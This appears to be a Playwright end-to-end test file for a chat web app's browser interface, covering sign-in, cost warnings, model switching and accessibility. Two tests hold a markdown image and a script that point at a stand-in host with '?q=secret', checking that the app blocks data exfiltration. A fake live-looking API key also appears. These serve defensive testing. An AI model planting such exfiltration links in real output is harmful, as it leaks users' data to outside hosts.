"""The web app in a real browser, against the stand-in for the API: what only a browser can show."""

import os
import re
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from typing import NamedTuple

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright

from shared.accounts import Me, SigninOptions
from shared.sign_on import SingleSignOn
from tests.e2e.browser import executable
from tests.frontend.fake_api import FakeApi, serve
from tests.frontend.samples import PASSWORD, person

pytestmark = pytest.mark.e2e

ARGUMENTS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
PATIENCE_MS = 20_000
COMPOSER = "[data-testid=stChatInput] textarea"
MADE_UP_KEY = "please use the key sk_live_0123456789 for this"


class WebApp(NamedTuple):
    """The running web app and the API behind it."""

    address: str
    api: FakeApi


@contextmanager
def web_app(api_address: str) -> Iterator[str]:
    """Runs the web app in a process of its own; yields its address."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    environment = {**os.environ, "FAIRLEAD_API_URL": api_address, "FAIRLEAD_UI_PORT": str(port)}
    process = subprocess.Popen([sys.executable, "-m", "frontend"], env=environment)
    address = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                httpx.get(f"{address}/_stcore/health").raise_for_status()
                break
            except httpx.HTTPError:
                assert process.poll() is None, "the web app ended"
                assert time.monotonic() < deadline, "the web app did not start"
                time.sleep(0.1)
        yield address
    finally:
        process.send_signal(signal.SIGTERM)
        try:
            process.wait(20)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


@pytest.fixture(scope="module")
def app() -> Iterator[WebApp]:
    api = FakeApi()
    api.sign_in(person("Warm Up"))
    with serve(api) as api_address, web_app(api_address) as address:
        yield WebApp(address, api)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable(), args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture
def mara(app: WebApp) -> Me:
    """Somebody new for every test."""
    me = person("Mara Lindqvist")
    app.api.sign_in(me)
    return me


@pytest.fixture
def context(chromium: Browser, app: WebApp, mara: Me) -> Iterator[BrowserContext]:
    opened = chromium.new_context()
    opened.set_default_timeout(PATIENCE_MS)
    opened.add_cookies([{"name": "sid", "value": app.api.sign_in(mara), "url": app.address, "httpOnly": True}])
    yield opened
    opened.close()


@pytest.fixture
def page(context: BrowserContext, app: WebApp) -> Page:
    expect.set_options(timeout=PATIENCE_MS)
    opened = context.new_page()
    opened.goto(app.address)
    expect(opened.get_by_role("heading", name="What do you want to do?")).to_be_visible()
    return opened


def write(page: Page, text: str) -> None:
    page.locator(COMPOSER).fill(text)


def send(page: Page, text: str) -> None:
    write(page, text)
    page.locator(COMPOSER).press("Enter")


def expect_said(page: Page, text: str | re.Pattern[str]) -> None:
    """What the precheck strip comes to say."""
    expect(page.locator(".st-key-strip .said")).to_have_text(text)


def test_a_person_signs_in_survives_a_reload_and_signs_out(chromium: Browser, app: WebApp, mara: Me) -> None:
    context = chromium.new_context()
    context.set_default_timeout(PATIENCE_MS)
    page = context.new_page()
    page.goto(f"{app.address}/account")
    page.get_by_label("Email").fill(mara.email)
    page.get_by_label("Password", exact=True).fill("wrong")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_have_text("Email and password do not match. 4 tries left.")
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="Account")).to_be_visible()
    (cookie,) = (cookie for cookie in context.cookies() if cookie["name"] == "sid")
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Lax"
    assert cookie["value"] not in page.evaluate("document.cookie + JSON.stringify(localStorage)")
    page.reload()
    expect(page.get_by_role("heading", name="Account")).to_be_visible()
    page.locator(".st-key-me button").click()
    page.get_by_role("menuitem", name="Sign out").click()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    assert cookie["value"] not in app.api.people
    context.close()


def test_the_strip_says_one_thing_the_most_pressing_first(page: Page) -> None:
    write(page, "too short")
    write(page, "explain the weather to me")
    expect_said(page, "Chat, standard")
    expect(page.locator(".st-key-strip .cost")).to_have_text("about 0.3 to 0.8 credits")
    write(page, "a huge text with a def in it")
    expect_said(page, "About 0.8 credits, 412.4 left.")
    expect(page.locator(".st-key-strip button")).to_be_hidden()
    write(page, "a huge and forbidden text")
    expect_said(page, "This looks like coding, which is not in your Starter plan.")
    write(page, f"{MADE_UP_KEY} huge def")
    expect_said(page, "Looks like it holds a live key.")
    write(page, f"{MADE_UP_KEY} at the bank")
    expect_said(page, re.compile("^This will not be sent"))
    write(page, "")
    expect(page.locator(".st-key-strip .said")).to_be_empty()


def test_what_cannot_be_paid_whole_is_sent_for_a_shorter_answer_in_one_press(page: Page, app: WebApp) -> None:
    write(page, "tell me a long story")
    expect_said(page, "About 0.8 credits, 0.5 left.")
    page.get_by_role("button", name="Send, answer short").click()
    expect(page.get_by_role("button", name="Regenerate answer")).to_be_visible()
    asked = app.api.asked[-1]
    assert asked.message is not None
    assert (asked.message.content, asked.params.max_tokens) == ("tell me a long story", 250)
    expect(page.locator(COMPOSER)).to_have_value("")


def test_a_better_assistant_is_offered_and_used_in_one_press(page: Page, app: WebApp) -> None:
    page.get_by_role("button", name="General").click()
    expect(page.locator(".st-key-picker")).to_contain_text("General")
    write(page, "def deliver(event): is this right?")
    expect_said(page, "Looks like code.")
    page.get_by_role("button", name="Use Code").click()
    expect(page.locator(".st-key-picker")).to_contain_text("Code")
    expect(page.locator(COMPOSER)).to_have_value("def deliver(event): is this right?")
    page.locator(COMPOSER).press("Enter")
    expect(page.get_by_role("button", name="Regenerate answer")).to_be_visible()
    assert app.api.asked[-1].assistant == "code"


def test_an_offer_that_was_ignored_once_is_not_made_again(page: Page, app: WebApp, mara: Me) -> None:
    kept = app.api.keep(mara, "Kept", ("hi", "yo"))
    page.goto(f"{app.address}/?c={kept}")
    page.locator(".st-key-picker button").click()
    page.get_by_text("General", exact=True).click()
    expect(page.locator(".st-key-picker")).to_contain_text("General")
    write(page, "def deliver(event): is this right?")
    expect_said(page, "Looks like code.")
    page.locator(COMPOSER).press("Enter")
    expect(page.get_by_role("button", name="Regenerate answer")).to_have_count(2)
    write(page, "def deliver(event): and this?")
    expect_said(page, "Code, standard")


def test_stop_reaches_a_silent_model_and_leaves_what_was_written(page: Page, app: WebApp) -> None:
    send(page, "stall here")
    expect(page.get_by_text("This answers: stall here. This answers: stall")).to_be_visible()
    expect(page.locator(COMPOSER)).to_be_disabled()
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text(re.compile("^Stopped · Code assistant"))).to_be_visible()
    assert len(app.api.cancelled) == 1
    expect(page.locator(COMPOSER)).to_be_focused()
    page.keyboard.type("and now?")
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Regenerate answer")).to_have_count(2)


def test_an_answer_survives_a_reload_while_it_is_being_written(page: Page, app: WebApp) -> None:
    app.api.words_per_second = 60
    send(page, "long please")
    expect(page.get_by_text("This answers: long please.").first).to_be_visible()
    page.wait_for_url(re.compile(r"\?c="))
    page.reload()
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    expect(page.get_by_role("button", name="Regenerate answer")).to_be_visible()
    assert page.get_by_role("group", name="Chat message from assistant").count() == 1


def test_answers_are_announced_and_every_button_has_a_name(page: Page) -> None:
    send(page, "hello there")
    status = page.locator(".st-key-announcer [role=status]")
    expect(status).to_have_text("Answer complete, 0.42 credits")
    for name in ("Copy answer", "Regenerate answer", "Good answer", "Poor answer", "Edit and send again"):
        expect(page.get_by_role("button", name=name, exact=True)).to_have_count(1)
    nameless = page.evaluate(
        "[...document.querySelectorAll('button')].filter(b => b.checkVisibility() && !b.innerText.trim()"
        " && !b.ariaLabel && !b.title && !b.getAttribute('aria-labelledby')).map(b => b.outerHTML.slice(0, 120))"
    )
    assert not nameless


def test_a_picture_in_an_answer_is_not_fetched(page: Page, app: WebApp, mara: Me) -> None:
    fetched: list[str] = []
    kept = app.api.keep(
        mara, "Leak", ("hi", "![x](http://198.51.100.1/?q=secret) and [ref]\n\n[ref]: http://198.51.100.1")
    )
    page.on("request", lambda request: fetched.append(request.url))
    page.goto(f"{app.address}/?c={kept}")
    expect(page.get_by_role("link", name="x", exact=True)).to_be_visible()
    assert page.get_by_test_id("stChatMessageContent").locator("img").count() == 0
    assert not [url for url in fetched if "198.51.100.1" in url]


def test_where_passwords_are_off_only_single_sign_on_is_offered(chromium: Browser, app: WebApp) -> None:
    before = app.api.options
    harbour = SingleSignOn(name="harbour", label="Harbour <b>Works</b>", start="/v1/auth/oidc/harbour/start")
    app.api.options = SigninOptions(password="off", signup="closed", single_sign_on=[harbour])
    page = chromium.new_page()
    try:
        page.goto(f"{app.address}/usage?from=2026-11-01&sign_in=suspended")
        link = page.get_by_role("link", name="Continue with Harbour <b>Works</b>", exact=True)
        expect(link).to_have_attribute(
            "href", "/v1/auth/oidc/harbour/start?return_to=%2Fusage%3Ffrom%3D2026-11-01", timeout=PATIENCE_MS
        )
        expect(page.get_by_role("alert")).to_have_text("This account is suspended. Ask an administrator.")
        for hidden in (page.get_by_label("Email"), page.get_by_role("button", name="Sign in", exact=True)):
            expect(hidden).to_be_hidden()
        assert page.url == f"{app.address}/usage?from=2026-11-01"
    finally:
        app.api.options = before
        page.close()


def test_a_policy_stops_pictures_that_slip_through(page: Page) -> None:
    violation = page.evaluate(
        "new Promise(done => { document.addEventListener('securitypolicyviolation', e => done(e.violatedDirective));"
        " const i = new Image(); i.src = 'http://198.51.100.1/?q=secret'; setTimeout(() => done('none'), 5000) })"
    )
    assert violation == "img-src"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_shows_everything_without_scrolling_sideways(
    chromium: Browser, app: WebApp, mara: Me, scheme: str
) -> None:
    kept = app.api.keep(mara, "A long title that does not fit into a row of the list", ("hi", "x" * 300), ("two", "yo"))
    context = chromium.new_context(
        viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True, color_scheme=scheme
    )
    context.set_default_timeout(PATIENCE_MS)
    context.add_cookies([{"name": "sid", "value": app.api.sign_in(mara), "url": app.address}])
    page = context.new_page()
    for path in ("/", f"/?c={kept}", "/account", "/reset?token=x"):
        page.goto(f"{app.address}{path}")
        expect(page.locator(".fl-meter, .st-key-door").first).to_be_attached()
        expect(
            page.locator("[data-testid=stMainBlockContainer] :is(h1, [data-testid=stChatMessage])").first
        ).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
    ground = page.evaluate("getComputedStyle(document.querySelector('.stApp')).backgroundColor")
    assert ground == ("rgb(253, 253, 251)" if scheme == "light" else "rgb(17, 23, 26)")
    context.close()
